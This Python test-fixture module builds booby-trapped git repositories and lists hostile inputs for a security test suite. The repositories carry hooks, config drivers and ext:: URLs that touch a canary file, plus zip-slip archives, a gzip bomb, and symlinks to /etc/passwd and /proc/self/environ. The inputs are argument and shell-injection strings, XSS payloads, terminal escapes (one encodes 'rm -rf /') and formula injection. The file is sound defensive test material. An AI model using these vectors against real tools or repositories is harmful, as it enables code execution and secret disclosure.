"""Repositories, names and texts that were made by somebody who means harm."""

import gzip
import io
import os
import socket
import stat
import sys
import tarfile
import zipfile
from pathlib import Path

from tests.dataset.repositories import FUNCTION, git, write_tree

CANARY = "CANARY_that_lies_outside"
HOOKS = ("post-checkout", "post-index-change", "reference-transaction", "pre-auto-gc", "post-commit")
DRIVERS = ("core.fsmonitor", "diff.external", "diff.evil.command", "diff.evil.textconv", "core.pager",
           "filter.evil.clean", "filter.evil.smudge", "filter.evil.process", "gpg.program", "core.sshCommand",
           "core.askPass", "credential.helper", "core.gitProxy", "core.alternateRefsCommand", "core.editor",
           "uploadpack.packObjectsHook", "remote.origin.uploadpack")


def script(path: Path, canary: Path) -> str:
    """A program that leaves the canary."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\ntouch '{canary}'\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return str(path)


def archives(secret: str) -> dict[str, bytes]:
    """A zip and a tar whose names lead outside, and two bombs, under names of sources too."""
    zipped, tarred = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("../../outside/slip.py", secret)
    with tarfile.open(fileobj=tarred, mode="w") as archive:
        entry = tarfile.TarInfo(f"{os.sep}tmp/absolute.py")
        entry.size = len(secret)
        archive.addfile(entry, io.BytesIO(secret.encode()))
    bomb = gzip.compress(b"\0" * (8 << 20))
    found = {"slip.zip": zipped.getvalue(), "absolute.tar": tarred.getvalue(), "bomb.gz": bomb}
    return found | {f"{name}.py": data for name, data in found.items()}


def trapped(folder: Path, files: int) -> tuple[Path, Path]:
    """A git repository of `files` sources and every trap there is; it, and what none of its commands may
    leave behind."""
    root, canary = folder / "root", folder / "canary"
    secret = "".join(f"def {CANARY}_{index}(x):\n    return x + {index}\n" for index in range(9))
    outside = write_tree(folder / "outside", {"secret.py": secret, "sub/secret.py": secret})
    write_tree(root, {f"part{index % 50}/m{index}.py": FUNCTION.format(name=f"f{index}")
                      for index in range(files)} | archives(secret))
    write_tree(root, {".gitattributes": "* diff=evil filter=evil merge=evil\n", ".gitmodules":
                      f'[submodule "s"]\n\tpath = s\n\turl = "ext::sh -c touch% {canary}"\n'})
    git(root, "init", "-q")
    git(root, "add", "-f", ".")
    git(root, "commit", "-qm", "first")
    (root / "part0/m0.py").write_text(FUNCTION.format(name="changed"))
    git(root, "commit", "-qam", "second")
    for name, target in {"file.py": outside / "secret.py", "folder": outside, "parent": "..", "self": "self",
                         "loop": ".", "gone.py": "nowhere.py", "zero.py": "/dev/zero",
                         "stdin.py": "/dev/stdin", "passwd.py": "/etc/passwd",
                         "environment.py": "/proc/self/environ",
                         "part0/up.py": "../../outside/secret.py"}.items():
        (root / name).symlink_to(target)
    for name in ("pipe.py", "pipe", "part1/pipe.py"):
        os.mkfifo(root / name)
    _bind(root, "socket.py")
    command = script(folder / "evil.sh", canary)
    for name in HOOKS:
        script(root / ".git" / "hooks" / name, canary)
    for key in DRIVERS:
        git(root, "config", key, command)
    for key, value in {"filter.evil.required": "true", "remote.origin.url": f"ext::{command}",
                       "protocol.ext.allow": "always", "alias.ls-files": f"!{command}"}.items():
        git(root, "config", key, value)
    return root, canary


def _bind(folder: Path, name: str) -> None:
    """A socket there; a path of a socket has at most 107 bytes, so from within."""
    here = os.getcwd()
    with socket.socket(socket.AF_UNIX) as bound:
        os.chdir(folder)
        bound.bind(name)
        os.chdir(here)


# Takes turns under one name: a file and a link to the secret, a folder and a link to the secret's folder.
FLIP = f"{sys.executable}", "-c", """
import os, sys
root, secret, turns = sys.argv[1:3] + [int(sys.argv[3])]
os.chdir(root)
for turn in range(turns):
    if turn % 2:
        os.symlink(secret, "link")
        os.replace("link", "sub/a.py")
        os.link("kept.py", "new")
        os.replace("new", "sub/a.py")
    else:
        os.symlink(os.path.dirname(secret), "link")
        os.rename("sub", "real")
        os.rename("link", "sub")
        os.unlink("sub")
        os.rename("real", "sub")
"""


def arguments(canary: Path) -> list[str]:
    """Repositories by name, each of which some program takes for an option or a command."""
    touch = f"touch {canary}"
    return [f"--upload-pack={touch}", f"-u{touch}", "--help", "-c", f"--config=core.sshCommand={touch}", "--",
            f"ext::sh -c {touch}", f"ext::sh -c touch% {canary}", f"EXT::{touch}", "fd::17", "fd::3/x",
            f"ssh://-oProxyCommand={touch}/a", f"ssh://a@-oProxyCommand={touch}/a",
            f"-oProxyCommand={touch}:a", "git@-oProxyCommand:a", "a@-oX:b", f"file:///--upload-pack={touch}",
            f"file://x/-u{touch}", "file://host/--help", f"https://-u{touch}/a", f"https:///{touch}",
            "https://[::1", "ftp://host/a", "http://host/a", f"javascript://{touch}", f"ssh:// ;{touch}/a",
            f"$({touch})", f"`{touch}`", f"; {touch} ;", f"| {touch}", f"a && {touch}", f"x\n{touch}",
            "~nobody-of-this-name/x", "\\\\host\\a", "x" * 5_000, "a@b:" + "x" * 5_000, "data:text/plain,x",
            "git+ssh://-x/a", "://", "a::b"]


def bases(canary: Path) -> list[str]:
    """Base models by name, likewise."""
    touch = f"touch {canary}"
    return ["-c", "--help", "--trust-remote-code", f"-c/{touch}", "-x/y", "--x/--y", "../x", "x/..", "a/../b",
            "~nobody-of-this-name", "x" * 5_000, "x/" + "y" * 5_000, f"$({touch})/x", f"a/`{touch}`", "a/b;c",
            "a/b\n", "a/b c", "a/b?x=1", "a/b#x", "a/b@evil.example", "@evil.example/x", "a\\b/c", "a/\0",
            "https://evil.example/a/b", "file:///etc/passwd", "/etc/passwd", "/dev/zero", ".", "..", "/"]


SCRIPTS = ("<script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT>", "</script><script>alert(1)//",
           "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
           "<iframe srcdoc='<script>alert(1)</script>'>", "<body onload=alert(1)>",
           "<a href='javascript:x()'>a", "[a](javascript:alert(1))",
           "<math><mtext></math><img src onerror=alert(1)>", "<base href=//evil>",
           "<form action=//evil><input name=a>", "<meta http-equiv=refresh content='0;url=//evil'>",
           "<link rel=stylesheet href=//evil>", "<style>@import '//evil'</style>",
           "</style><script>x</script>", "</title><script>x</script>", "</pre></section></main><h1>x",
           "<!--<script>", "--><script>x</script>", "<![CDATA[<script>x</script>]]>", "\"><script>x</script>",
           "' onmouseover='alert(1)", "\" autofocus " "onfocus=\"alert(1)", "`-alert(1)-`", "&lt;script&gt;x",
           "&#60;script&#62;x", "<object data=//evil>", "<embed src=//evil>", "<video><source onerror=x()>",
           "<details open ontoggle=x()>", "{{7*7}}${7*7}", "\x1b[31mred\x1b[0m\x1b]0;title\x07",
           "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x1b]52;c;cm0gLXJmIC8=\x07",
           "\x9b31m\x9d0;x\x9c", "\u202egnp.exe\u2066x\u2069\u200f", "=cmd|' /C calc'!A0",
           "@SUM(1+1)\r+1\r-1", "\x00\x08\x7f\ufeff\u2028\u2029", "[bold red]x[/][link=x]y",
           "<x" + " a" * 2_000 + ">", "\udcff".encode("utf-8", "surrogateescape").decode("latin-1"))
